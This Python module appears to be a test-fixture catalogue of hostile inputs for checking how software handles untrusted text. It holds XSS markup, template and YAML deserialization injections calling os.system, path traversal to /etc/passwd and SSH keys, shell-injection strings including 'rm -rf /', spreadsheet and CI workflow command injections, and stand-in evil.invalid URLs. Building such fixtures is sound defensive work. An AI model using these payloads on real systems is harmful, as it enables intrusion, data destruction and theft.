"""What somebody who means harm would write where text is expected, by kind; a script of theirs would set `PWNED` or ask evil.invalid."""

from __future__ import annotations

from typing import Any

RUN = "window.PWNED=1"
#: A product that stands nowhere else: what computes it took a text for a template.
SUM, PRODUCT = "7191*7", "50337"

TEXTS: dict[str, tuple[str, ...]] = {
    "markup": (
        f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", '<iframe srcdoc="<script>parent.PWNED=1</script>">',
        f"<object data=javascript:{RUN}>", "<base href=//evil.invalid/>", "<meta http-equiv=refresh content=0;url=//evil.invalid>",
        "<link rel=stylesheet href=//evil.invalid/x.css>", "<form action=//evil.invalid><button autofocus>", "<plaintext>", "<!--",
        "<![CDATA[", "<style>*{display:none}</style>", "<template shadowrootmode=open>", f'<p title="</noscript><img src=x onerror={RUN}>">',
        f"<video><source onerror={RUN}>", f"<details open ontoggle={RUN}>", f"<body onload={RUN}>", f"<sc<script>ript>{RUN}</script>",
    ),
    "attributes": (
        f'" onfocus="{RUN}" autofocus x="', f"' onmouseover='{RUN}' x='", f'"><svg onload={RUN}>', f"'><svg onload={RUN}>",
        f"` onload={RUN} `", f" onclick={RUN} ", f'"/onload={RUN}/', "\" style=\"background:url(//evil.invalid)",
    ),
    "closings": (
        f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</pre></code><img src=x onerror={RUN}>",
        "</table></main></body></html>", f"</style><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
        f"</noscript><script>{RUN}</script>",
    ),
    "drawings": (
        f"<svg onload={RUN}>", f"<svg><script href=data:,{RUN} />", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<math><mtext><mglyph><style><img src=x onerror={RUN}>", "<svg><use href=data:image/svg+xml,x#a>",
        f"<svg><foreignObject><img src=x onerror={RUN}>", f"<math href=javascript:{RUN}>x</math>", f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    ),
    "templates": (
        f"{{{{ {SUM} }}}}", "{% for x in [].__class__.__mro__ %}x{% endfor %}", "{# gone", f"${{{SUM}}}", f"#{{{SUM}}}", f"<%= {SUM} %>",
        "{{ self._TemplateReference__context }}", "{{ cycler.__init__.__globals__.os.system('x') }}", "{path}{#hash}{?q}", "%s %d %(x)s %n",
        "{0.__class__}", f"{{{{ constructor.constructor('{RUN}')() }}}}", "\\1\\g<0>$&$1",
    ),
    "scripts": (
        f'"}}]}};{RUN}//', f"\u2028{RUN}", f"\u2029{RUN}", "\\", '\\"', f"'-{RUN}-'", f"`${{{RUN}}}`", '{"__proto__":{"PWNED":1}}',
        "\\u003cscript\\u003e", "*/" + RUN + "/*", "\\x3cscript\\x3e", "//# sourceMappingURL=//evil.invalid/x",
    ),
    "names": ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "null", "undefined", "NaN", "true", "-1", "[object Object]"),
    "schemes": (
        f"javascript:{RUN}//", f"JaVaScRiPt:{RUN}//", f"java\tscript:{RUN}//", f"java\nscript:{RUN}//", f" javascript:{RUN}//",
        f"\x01javascript:{RUN}//", f"javascript&colon;{RUN}//", f"&#106;avascript:{RUN}//", f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD4=", f"vbscript:{RUN}", "//evil.invalid/", "\\\\evil.invalid\\", "https:evil.invalid",
        "blob:https://evil.invalid/", "file:///etc/passwd", "view-source:x", f"javascript://x%0a{RUN}//", "feed:javascript:x", "http://[",
        f"https://evil.invalid/\" onclick=\"{RUN}", "https://evil.invalid/<script>", "https://evil.invalid/\u202egpj.", "https://evil.invalid/\ud800",
        "https://evil.invalid/\r\nSet-Cookie: x",
    ),
    "paths": (
        "../../../../etc/passwd", "/etc/passwd", "..\\..\\windows", "%2e%2e%2f%2e%2e%2f", "....//....//", "a/../../b", "C:\\con", "con", "NUL.txt",
        "index.html", "v3/layout.json", ".", "..", "~/.ssh/id", "x.", "x ", "x\x00.html", "x::$DATA", ".git/config", "assets/site.js", "a//b", "*?",
    ),
    "terminal": (
        "\x1b[31mred", "\x1b]8;;https://evil.invalid\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x07\x07", "over\rwritten", "a\r\nb",
        "\x9b31m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "abc\x08\x08\x08", "\x1bP+q544e\x1b\\", "\x0e\x0f", "\x7f", "\x1bc", "\x1b[?1049h", "\x0b\x0c",
    ),
    "formats": (
        "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeffx", "so\u00adft", "a\u200db", "\U000e0041", "\u2060", "\x85", "\u061c", "\ufff9x\ufffb",
    ),
    "alike": ("\u0261cc", "\u0440aypal", "\uff1cscript\uff1e", "\u212aelvin", "\u017fcript", "\u0130stanbul", "\u0660\u0661", "e" + "\u0301" * 40),
    "unicode": ("\ud800", "\udfff", "\x00", "\ufffe", "\uffff", "\ufdd0", "\U0010ffff", "\U0001f4a9", "\ud83d \ude00", "\udcff\udc80"),
    "documents": (
        '=HYPERLINK("//evil.invalid")', "@SUM(1)", f"[x](javascript:{RUN})", "![x](//evil.invalid/x.png)", "&lol;", "&#0;", "&#x1b;",
        '<!DOCTYPE x [<!ENTITY a "b">]>', '<?xml version="1.0"?>', "&lt;script&gt;", "|a|b|", "<https://evil.invalid>", "&amp;amp;", "<?php x ?>",
    ),
    "shell": (
        "$(touch PWNED)", "`touch PWNED`", "; rm -rf /", "| sh", "&& reboot", "x\ntouch PWNED", "-rf", "--privileged", "${IFS}", "';x;'", "!!", ">(sh)",
    ),
    "workflow": (
        "::set-output name=x::1", "::error::x", "##[error]x", "::stop-commands::t", "::add-mask::a", "x\n::error::y", "##vso[task.x]", "${{ secrets.X }}",
        " ::warning::x",
    ),
    "yaml": (
        "!!python/object/apply:os.system [x]", "&a [*a]", "yes", "1e3", "2026-01-01", "- x", "x: y", "#", "%YAML 1.1", "---", "'", "|", ">", "*a",
        "<<: x", '"\\x00"', "? x", "{a: b}", "\tx", "~",
    ),
}  # fmt: skip
#: Each payload with a word of its own behind it, by which it is found again.
MARKED = tuple(
    (kind, f"m{at:03}m", f"{text}m{at:03}m")
    for at, (kind, text) in enumerate((kind, text) for kind, texts in TEXTS.items() for text in texts)
)
#: What is too long for any page, with its word in front.
HUGE = f"m999m {'<b>A' * 250_000}"


def deep(depth: int) -> Any:
    """A list in a list in a list."""
    found: list[Any] = []
    for _ in range(depth):
        found = [found]
    return found


#: What JSON may hold where text is expected.
ODD: tuple[Any, ...] = (
    None, True, False, 0, -1, 1e308, 10**400, float("nan"), float("inf"), "", [], {}, [[]], [None], {"toString": 1}, {"__proto__": {"PWNED": 1}},
    {"valueOf": None, "toString": None}, ["<script>"], {"name": None}, {"length": 1e9}, deep(90), [{"toString": "x"}], HUGE,
)  # fmt: skip

#: Texts that YAML makes something else of, behind `title: `.
YAML = (
    "!!python/object/apply:os.system ['touch PWNED']", "!!python/name:os.system", "!!binary aGk=", "&a [*a]", "*nobody", "yes", "1e3", "2026-01-01", "[a]", "{a: b}",
    "|\n      a\n      b", "'a\n\n      b'", '"\\x1b[31m"', '"\\0"', '"\\ud800"', '"\\uffff"', '"\\u2028"', "null", "~", ".nan", "0o17", "? x", "'", '"', "x: y", "\tx", "a\n  title: b",
    "x\n  <<: {url: 'javascript:x'}", "x\n---\nsite: {}", "%YAML 9", "@x", "`x`", '"\\u202e"', '"\\U000e0041"', '"\\x85"', '"a\\nb"',
)  # fmt: skip
